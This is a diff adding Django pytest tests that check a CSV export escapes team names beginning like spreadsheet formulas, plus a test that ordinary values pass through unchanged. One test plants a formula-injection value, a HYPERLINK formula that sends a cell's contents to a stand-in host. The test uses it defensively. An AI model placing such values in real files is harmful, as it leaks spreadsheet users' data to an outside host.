@@ -98,6 +98,26 @@ def test_the_csv_export_with_two_users_in_the_database_contains_exactly_my_rows(
     assert Answer.objects.filter(checkin__user=teammate).count() > 0
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
+def test_my_csv_export_writes_a_team_name_that_starts_like_a_formula_as_text(client, practitioner, team, start):
+    # The export holds no words of the person's own; the team name is typed by someone else, so it is the way in.
+    team.name = f'{start}HYPERLINK("https://example.com/?"&A1)'
+    team.save()
+    submit_checkin(practitioner, team)
+    client.force_login(practitioner)
+    rows = list(csv.DictReader(io.StringIO(client.get(reverse("practitioner:export_csv")).content.decode())))
+    assert rows and {r["team"] for r in rows} == {"'" + team.name}
+
+
+def test_my_csv_export_keeps_ordinary_text_and_numbers_as_they_are(client, practitioner, team):
+    checkin = submit_checkin(practitioner, team, default=4)
+    client.force_login(practitioner)
+    rows = list(csv.DictReader(io.StringIO(client.get(reverse("practitioner:export_csv")).content.decode())))
+    assert rows and {r["team"] for r in rows} == {"North team"}
+    assert {(r["checkin_id"], r["answer_value"]) for r in rows} == {(str(checkin.pk), "4")}
+    assert {r["statement"] for r in rows} == set(Answer.objects.values_list("question__text", flat=True))
+
+
 def test_a_forged_export_request_for_another_user_still_returns_only_my_data(client, practitioner, teammate, team):
     give_everything(teammate, team, "THEIRS")
     client.force_login(practitioner)
